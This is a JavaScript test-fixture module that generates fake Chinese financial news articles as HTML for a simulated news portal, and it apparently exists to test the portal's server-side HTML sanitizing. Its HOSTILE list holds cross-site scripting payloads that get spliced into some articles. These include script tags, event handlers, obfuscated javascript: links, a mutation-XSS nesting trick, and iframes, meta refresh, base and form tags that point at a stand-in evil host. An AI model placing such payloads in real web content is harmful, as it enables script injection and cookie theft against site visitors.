// @ts-check
// Article HTML (NewsContent). Every article has headings (including h1),
// paragraphs, a list, a table, an image and links; a good share also carries
// hostile markup, so the portal's server-side sanitizing is exercised.
import { dice, stream } from '../rng.mjs';
import { IMAGE_HOST } from './news.mjs';

const HOSTILE = [
  '<script>alert("xss")</script>',
  '<img src="x" onerror="alert(1)">',
  '<a href="javascript:alert(1)">点击查看详情</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">行情数据</a>',
  '<a href="jav&#x09;ascript:alert(1)">完整报告</a>',
  '<a href="  JaVaScRiPt:alert(document.cookie)">历史数据</a>',
  '<a href="java\nscript:alert(1)">相关阅读</a>',
  '<iframe src="https://evil.macrodesk-sim.example/embed" width="600" height="400"></iframe>',
  '<svg onload="alert(1)"><circle r="10"></circle></svg>',
  '<p style="width: expression(alert(1)); background: url(javascript:alert(1))">风险提示：市场有风险，投资需谨慎。</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.macrodesk-sim.example/">',
  '<form action="https://evil.macrodesk-sim.example/collect"><input name="q"><button formaction="javascript:alert(1)">订阅</button></form>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<div onclick="alert(1)" onmouseover="alert(2)">悬停查看更多</div>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<style>body { display: none }</style>',
  '<base href="https://evil.macrodesk-sim.example/">',
  '<img src="https://img.macrodesk-sim.example/chart.png" srcset="javascript:alert(1) 2x" alt="走势图">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
];

const OUTLOOK = [
  '分析人士指出，短期内市场仍将围绕央行政策预期波动。',
  '交易员表示，本周多项重要经济数据将决定市场方向。',
  '机构认为，当前估值已部分反映政策转向预期。',
  '市场人士提醒，地缘局势和贸易政策仍是不确定因素。',
];

/** @param {string} seed @param {import('./news.mjs').NewsItem} item */
export function articleHtml(seed, item) {
  const d = dice(stream(seed, 'article', item.id));
  const parts = [
    `<h1>${item.title}</h1>`,
    `<p><strong>${item.wall.slice(0, 16)}</strong> ${item.summary}</p>`,
    `<p><img src="${IMAGE_HOST}/news/${item.id}-1.jpg" alt="${item.title}" width="640" height="360"></p>`,
    '<h2>市场表现</h2>',
    `<p>${d.pick(OUTLOOK)}${d.pick(OUTLOOK)}</p>`,
    '<ul><li>美元指数：关注美国经济数据</li><li>黄金：避险需求与实际利率</li><li>原油：供需前景与库存变化</li></ul>',
    '<h3>重要数据一览</h3>',
    `<table><thead><tr><th>指标</th><th>前值</th><th>预期</th><th>公布值</th></tr></thead><tbody><tr><td>CPI年率</td><td>${(2 + d.next()).toFixed(1)}%</td><td>${(2 + d.next()).toFixed(1)}%</td><td>${(2 + d.next()).toFixed(1)}%</td></tr><tr><td>失业率</td><td>4.${d.int(0, 9)}%</td><td>4.${d.int(0, 9)}%</td><td>4.${d.int(0, 9)}%</td></tr></tbody></table>`,
    `<blockquote>${d.pick(OUTLOOK)}</blockquote>`,
    `<p>更多内容请参阅<a href="https://www.macrodesk-sim.example/research/${item.id}" target="_blank">研究报告</a>及<a href="/calendar">财经日历</a>。</p>`,
  ];
  if (item.hostile) {
    for (let n = d.int(2, 4); n > 0; n--) parts.splice(d.int(1, parts.length), 0, d.pick(HOSTILE));
  }
  return parts.join('\n');
}
